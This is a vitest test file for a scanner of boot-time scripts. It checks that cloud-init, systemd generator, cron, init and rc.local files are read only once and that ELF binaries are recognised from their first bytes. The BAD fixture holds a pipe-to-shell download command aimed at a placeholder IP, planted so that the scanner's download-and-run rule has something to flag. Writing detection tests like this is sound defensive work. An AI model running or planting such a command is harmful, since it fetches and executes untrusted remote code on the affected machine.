/**
 * cloud-init scripts, systemd generators, cron.daily and init scripts are read once: the
 * first bytes that tell a binary from a script are the start of the one read that goes
 * on to the end of a script, so no byte is read twice (counted at the filesystem, not
 * timed). Of a binary only those first bytes are read: its size is its stat's.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chmod, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cloudInitCheck } from '../../src/checks/cloud-init.js';
import { cronCheck } from '../../src/checks/cron.js';
import { systemdGeneratorsCheck } from '../../src/checks/systemd-generators.js';
import { servicesCheck } from '../../src/checks/services.js';
import { TEXT_PROBE_BYTES } from '../../src/checks/shared/file-head.js';
import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
import { scanDirectoryCounting as scanTree } from '../helpers/scan-dir.js';
import type { Check } from '../../src/model/check.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';

const BAD = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
/** Over the 1 MiB a binary is measured to, so a head read and a whole read would differ. */
const PADDING = `${'# padding\n'.repeat(300_000)}`;
const SCRIPT = `#!/bin/sh\n${PADDING}${BAD}\n`;
const LINE = PADDING.split('\n').length + 1;
/** A 3 MiB file that its first bytes call an ELF. */
const ELF = Buffer.alloc(3 << 20);
ELF.write('\x7fELF', 'latin1');

let scratch: string;
let n = 0;

beforeAll(async () => {
  scratch = await makeScratchDir('minescan-read-once-');
});
afterAll(async () => {
  await removeScratchDir(scratch);
});

async function scanOne(rel: string, content: Buffer | string, check: Check) {
  const root = path.join(scratch, `t${n++}`);
  await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
  await writeFile(path.join(root, rel), content);
  await chmod(path.join(root, rel), 0o755);
  return scanTree(root, [check]);
}

describe('scripts run at boot are read once', () => {
  it.each([
    ['a cloud-init per-boot script', 'var/lib/cloud/scripts/per-boot/00-net', cloudInitCheck],
    ['a systemd generator script', 'etc/systemd/system-generators/netcfg', systemdGeneratorsCheck],
    ['a cron.daily script', 'etc/cron.daily/netcfg', cronCheck],
    ['an init script', 'etc/init.d/netcfg', servicesCheck],
    ['rc.local', 'etc/rc.local', servicesCheck],
  ] as const)('reads %s of 3 MiB once and finds its last line', async (_what, rel, check) => {
    const { result, counts } = await scanOne(rel, SCRIPT, check);
    expect(result.findings.map((f) => `${f.rule} ${f.path}:${f.line}`)).toContain(`command.download-and-run /${rel}:${LINE}`);
    expect(counts.bytesRead).toBe(Buffer.byteLength(SCRIPT));
    expect(result.errors).toEqual([]);
  }, 60_000);

  it('reads a 3 MiB script a crontab line starts once, after the 64 bytes that tell it is one', async () => {
    const root = path.join(scratch, `t${n++}`);
    const crontab = `* * * * * root /usr/local/bin/sync.sh\n`;
    await mkdir(path.join(root, 'etc'), { recursive: true });
    await mkdir(path.join(root, 'usr/local/bin'), { recursive: true });
    await writeFile(path.join(root, 'etc/crontab'), crontab);
    await writeFile(path.join(root, 'usr/local/bin/sync.sh'), SCRIPT);
    const { result, counts } = await scanTree(root, [cronCheck, startedScriptsCheck]);
    expect(result.findings.map((f) => `${f.rule} ${f.path}:${f.line}`)).toContain(`command.download-and-run /usr/local/bin/sync.sh:${LINE}`);
    // What comes on top of the cron check's reads: the 64 bytes every source keeps, the script
    // once, and the crontab line the engine's correlation reads to link the finding to its starter.
    const cronOnly = await scanTree(root, [cronCheck]);
    expect(counts.bytesRead - cronOnly.counts.bytesRead).toBe(64 + Buffer.byteLength(SCRIPT) + crontab.length);
  }, 60_000);

  it('measures a 3 MiB binary generator to 1 MiB by its size, reading only its head', async () => {
    const { result, counts } = await scanOne('etc/systemd/system-generators/netbin', ELF, systemdGeneratorsCheck);
    expect(result.findings.find((f) => f.rule === 'generator.unpackaged-local')?.evidence).toBe(`ELF executable, ${1 << 20} bytes read`);
    expect(counts.bytesRead).toBe(TEXT_PROBE_BYTES);
  }, 60_000);

  it('tells a 3 MiB ELF init script by its head alone', async () => {
    const { result, counts } = await scanOne('etc/init.d/netbin', ELF, servicesCheck);
    expect(result.findings.find((f) => f.rule === 'init.binary-script')?.evidence).toBe(`ELF executable, ${3 << 20} bytes`);
    expect(counts.bytesRead).toBe(TEXT_PROBE_BYTES);
    expect(result.errors).toEqual([]);
  }, 60_000);
});
